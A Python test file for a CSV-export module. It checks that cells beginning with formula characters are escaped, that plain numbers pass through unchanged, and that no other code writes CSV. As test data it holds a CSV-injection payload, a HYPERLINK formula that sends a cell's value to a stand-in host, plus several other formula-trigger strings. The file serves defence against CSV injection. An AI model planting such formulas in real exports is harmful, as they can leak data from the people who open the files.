"""The one CSV writer: formula-leading cells neutralized, plain numbers kept; no other writer."""

import ast
import csv
import io
from pathlib import Path

import pytest

from apps.common.csv_out import SafeCsvWriter, formula_leading, safe_cell

ROOT = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("http://x.test/?"&A1)'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-.5", "-.5"),
        ("1,234", "1,234"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_formula_leading_cells_are_quoted_and_plain_numbers_kept(cell, written):
    assert safe_cell(cell) == written


def test_the_writer_neutralizes_every_cell_and_keeps_csv_quoting():
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer, lineterminator="\n")
    writer.writerow(["account", "amount"])
    writer.writerows([[HYPERLINK, "-12.50"], ["ACC-1", "3"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["account", "amount"], ["'" + HYPERLINK, "-12.50"], ["ACC-1", "3"]]


def test_formula_leading_is_the_identifier_rule():
    assert formula_leading(HYPERLINK)
    assert formula_leading("-12.50")  # not an identifier: the doors refuse it too
    assert not formula_leading("ACC-1")


def test_no_csv_writer_outside_the_one_module():
    """Every CSV we produce goes through ``apps.common.csv_out`` (OWASP CSV injection)."""
    found = []
    for path in sorted((ROOT / "apps").rglob("*.py")):
        if path == ROOT / "apps/common/csv_out.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            writer_attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            writer_import = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and bool({alias.name for alias in node.names} & {"writer", "DictWriter"})
            )
            if writer_attribute or writer_import:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == []
